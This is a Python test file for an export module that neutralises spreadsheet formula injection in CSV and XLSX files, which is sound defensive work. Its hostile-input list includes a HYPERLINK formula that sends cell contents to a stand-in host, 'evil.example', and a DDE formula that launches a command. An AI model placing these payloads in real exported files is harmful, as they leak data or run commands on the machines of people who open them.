"""Formula injection: hostile cells come out of every CSV and XLSX export as inert text."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from modules.export.safe_cells import is_dangerous, neutralise, neutralise_frame, xlsx_value
from modules.export.tables import sheet_title, to_csv_bytes, to_xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading spaces
    "\u00a0=1+1",  # a non-breaking space
    "\uff1d1+1",  # full-width equals sign
]
HARMLESS = ["Łukasz", "Ayşe", "Никита", "O'Brien", "a=b", "1+1", "", "email@example.org", "Smith-Jones", "-5.0", "+44"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_neutralised(text: str) -> None:
    assert is_dangerous(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralise(text) == text


def test_numbers_and_other_values_pass_through() -> None:
    assert neutralise(-3.5) == -3.5
    assert neutralise(None) is None
    assert neutralise(True) is True


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "learner": HOSTILE + HARMLESS[:2],
            "score": [-5.0] * len(HOSTILE) + [50.0, 60.0],
            "=evil header": ["x"] * (len(HOSTILE) + 2),
        }
    )


def test_frames_neutralise_cells_and_headers() -> None:
    safe = neutralise_frame(_frame())
    assert list(safe.columns) == ["learner", "score", "'=evil header"]
    assert all(v.startswith("'") for v in safe["learner"][: len(HOSTILE)])
    assert safe["score"].iloc[0] == -5.0  # numbers stay numbers


def test_csv_export_has_no_live_formula() -> None:
    data = to_csv_bytes(_frame())
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 names correctly
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            assert not is_dangerous(cell), cell
    assert rows[-1][0] == "Ayşe"


def test_xlsx_export_has_no_formula_cells() -> None:
    frame = _frame()
    frame.loc[0, "learner"] = "=1+1\x07bell"  # a control character XML cannot hold
    book = load_workbook(io.BytesIO(to_xlsx_bytes({"Learners": frame, "Other": frame})))
    ws = book["Learners"]
    values = [c.value for row in ws.iter_rows() for c in row]
    types = {c.data_type for row in ws.iter_rows() for c in row}
    assert "f" not in types  # no formula cell anywhere
    assert "'=1+1bell" in values
    assert not any(isinstance(v, str) and is_dangerous(v) for v in values)
    assert -5.0 in values  # numeric cells stay numeric


def test_xlsx_values() -> None:
    assert xlsx_value(float("nan")) is None
    assert xlsx_value(pd.NaT) is None
    assert xlsx_value(["=a"]) == "['=a']"
    stamp = pd.Timestamp("2025-03-03 10:00", tz="UTC")
    assert xlsx_value(stamp).tzinfo is None


def test_sheet_titles_are_valid_and_unique() -> None:
    taken: set[str] = set()
    assert sheet_title("a/b:c*d?[e]", taken) == "a b c d  e"
    long = "x" * 40
    first, second = sheet_title(long, taken), sheet_title(long, taken)
    assert len(first) == 31 and len(second) <= 31 and first != second
